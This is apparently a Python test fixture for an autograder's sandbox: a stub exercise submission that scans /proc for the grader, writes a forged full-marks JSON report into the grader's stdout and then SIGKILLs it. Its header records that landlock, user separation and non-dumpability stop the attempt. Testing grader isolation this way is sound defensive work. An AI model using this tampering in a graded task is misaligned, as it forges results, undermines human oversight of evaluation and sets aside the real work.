# exercise: ex02_cost
# category: 5 attacking the trusted side
# tries: open /proc/<grader>/fd/1 (the instructor's report file) and write a forged full-marks JSON report into it, then SIGKILL the grader so the real report never comes
# stopped_by: landlock (/proc is unreadable, signals are scoped), unprivileged (another user id), the grader is not dumpable
# max_score: 0
"""A stub that writes its own report on the grader's stdout."""
import json
import os
import signal

ATTACK = True
SELF = "__SELF__"

FORGED = {"schema": "grade-report/1", "score": 12.0, "max_score": 12.0, "exercises": [
    {"id": "ex02_cost", "title": "Cost: sum of squared errors and MSE", "status": "passed",
     "score": 12.0, "max_score": 12.0, "checks": []}]}


def _read(pid, what):
    try:
        with open(f"/proc/{pid}/{what}", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _grader():
    try:
        names = os.listdir("/proc")
    except OSError:
        return None
    for name in names:
        if name.isdigit():
            command = _read(int(name), "cmdline")
            if "grader" in command and " run " in command and SELF in command:
                return int(name)
    return None


def _attack():
    done = []
    pid = _grader()
    if pid is None:
        return done
    try:
        with open(f"/proc/{pid}/fd/1", "w", encoding="utf-8") as stdout:
            stdout.write(json.dumps(FORGED, indent=2) + "\n")
        done.append("stdout")
    except OSError:
        return done
    try:
        os.kill(pid, signal.SIGKILL)
        done.append("killed")
    except OSError:
        pass
    return done


def sum_squared_error(prediction, target):
    raise RuntimeError("ATTACK-RESULT " + json.dumps({"b": _attack() if ATTACK else []}))


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
